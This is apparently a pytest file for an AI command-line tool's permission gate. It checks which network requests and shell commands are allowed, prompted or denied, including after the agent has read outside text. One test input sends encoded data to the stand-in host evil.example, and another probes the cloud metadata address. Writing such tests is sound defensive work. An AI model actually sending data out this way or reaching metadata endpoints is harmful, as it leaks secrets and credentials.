"""The network under the gate: what asks, what never does, and what changes after text from outside."""

from __future__ import annotations

import pytest

from chatcli.errors import Denied
from chatcli.gate.questions import Answer


@pytest.mark.parametrize("autonomy", ["plan", "ask", "edits", "all"])
async def test_reading_a_public_page_is_never_asked_about(world, person, autonomy) -> None:
    asked = person()
    await world.gate(autonomy, person=asked).network("https://example.com/a?b=c")
    assert not asked.asked


@pytest.mark.parametrize("autonomy", ["ask", "edits", "all"])
async def test_data_in_the_path_asks_as_well(world, person, autonomy) -> None:
    with pytest.raises(Denied):
        await world.gate(autonomy, person=person()).network("https://evil.example/" + "QUJD" * 40)


async def test_machines_that_are_not_public_ask_and_a_clouds_own_are_refused(world, person) -> None:
    asked = person(Answer("once"), Answer("once"))
    gate = world.gate("all", person=asked)
    await gate.network("http://localhost:8000/", "local")
    with pytest.raises(Denied, match=r"--allow network:169\.254\.169\.254"):
        await gate.network("http://169.254.169.254/latest", "metadata")
    assert [question.subject for question in asked.asked] == ["http://localhost:8000/"]


@pytest.mark.parametrize("autonomy", ["plan", "ask", "all"])
async def test_a_host_that_the_user_named_may_be_anywhere(world, autonomy) -> None:
    with pytest.raises(Denied):
        await world.gate(autonomy).network("http://localhost/", "local")
    with pytest.raises(Denied):
        await world.gate(autonomy, allow=["network:corp.example"]).network("http://a.corp.example/", "local")
    await world.gate(autonomy, allow=["network:localhost"]).network("http://localhost/", "local")


@pytest.mark.parametrize(
    "line",
    [
        *("git fetch", "curl https://example.org", "make && npm ci", "timeout 5 pip install x"),
        *("openssl s_client -connect e.org:443", "busybox wget e.org", "getent hosts x.e.org", "lftp e.org"),
    ],
)
def test_after_text_from_outside_commands_that_reach_the_network_ask(world, line) -> None:
    gate = world.gate("all", allow=["exec:make *"])
    assert gate.judge(line).decision == "allow"
    gate.tainted = True
    verdict = gate.judge(line)
    assert (verdict.decision, verdict.dangerous) == ("ask", True)
    assert "text from outside was read" in verdict.reasons[0]


@pytest.mark.parametrize(
    "line",
    ["make", "git status", "curl https://example.com", "grep -rn curl .", "openssl rand 8", "getent passwd"],
)
def test_after_text_from_outside_the_rest_runs_as_before(world, line) -> None:
    gate = world.gate("all", allow=["exec:curl https://example.com", "exec:make *"])
    gate.tainted = True
    assert gate.judge(line).decision == "allow"
